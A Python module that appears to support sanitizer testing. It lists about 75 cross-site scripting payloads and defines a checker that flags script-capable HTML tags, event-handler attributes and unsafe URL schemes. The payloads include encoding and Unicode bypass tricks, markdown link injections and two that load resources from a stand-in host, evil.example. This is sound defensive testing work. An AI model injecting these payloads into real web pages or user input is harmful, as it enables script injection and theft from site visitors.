"""Known XSS payloads and a checker for HTML that must not be able to run script."""

import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![img](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    '[x](https://example.com/" onmouseover="alert(1))',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{background:red}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<a href="\\u006aavascript:alert(1)">u</a>',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<base href="javascript:alert(1)//">',
    "<template><script>alert(1)</script></template>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<!--<script>alert(1)</script>-->",
    '<p onclick="alert(1)">para</p>',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<a href="https://example.com" onclick="alert(1)">ok link</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="javascript://%0aalert(1)">encoded</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    "<button formaction=javascript:alert(1)>x</button>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    '<applet code="javascript:alert(1)">',
    # Breaking out of the element or attribute the text lands in.
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    # Entity, encoding and Unicode tricks.
    '<a href="javascript&colon;alert(1)">colon</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    # Markdown autolinks and reference links.
    "<javascript:alert(1)>",
    "[ref][x]\n\n[x]: javascript:alert(1)",
]

DANGEROUS_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "style",
    "link",
    "meta",
    "form",
    "input",
    "button",
    "svg",
    "math",
    "base",
    "frame",
    "frameset",
    "applet",
    "template",
    "video",
    "audio",
    "img",
    "body",
    "details",
    "marquee",
    "noscript",
}
SAFE_SCHEMES = {"http", "https", "mailto"}
SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see (it ignores ASCII whitespace and controls)."""
    match = SCHEME.match(re.sub(r"[\x00-\x20]", "", url).lower())
    return match.group(1) if match else None


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "background"}:
                self.problems.append(f"{tag}[{name}]")
            scheme = url_scheme(value or "")
            if name in {"href", "src", "action", "xlink:href"} and scheme not in {
                None,
                *SAFE_SCHEMES,
            }:
                self.problems.append(f"{tag}[{name}={value}]")


def script_capable_parts(html: str) -> list[str]:
    """Everything in ``html`` that could run script; an empty list means safe."""
    collector = _Collector()
    collector.feed(html)
    return collector.problems
